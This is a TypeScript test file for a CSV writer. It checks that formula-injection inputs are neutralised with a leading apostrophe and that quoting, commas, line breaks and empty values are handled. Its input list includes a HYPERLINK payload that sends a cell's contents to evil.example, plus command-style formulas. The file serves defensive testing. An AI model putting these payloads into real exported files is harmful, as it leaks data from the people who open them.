import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvLine } from './csv.ts';

test('what a spreadsheet would run is text to it', () => {
  for (const attack of [
    '=1+1',
    '+1',
    '-1+cmd',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '\0=1',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
  ]) {
    const line = csvLine([attack]);
    assert.match(line, /^"?'/, JSON.stringify(attack));
  }
  assert.equal(csvLine(['a=1', 'b@example.com', ' =1']), 'a=1,b@example.com," =1"\r\n');
});

test('quotes, commas and line breaks stay within their cell', () => {
  assert.equal(csvLine(['a"b', 'a,b', 'a\r\nb', '=a","=b']), `"a""b","a,b","a\r\nb","'=a"",""=b"\r\n`);
});

test('numbers and nothing are written plainly', () => {
  assert.equal(csvLine([-5, 0, null, '']), '-5,0,,\r\n');
});
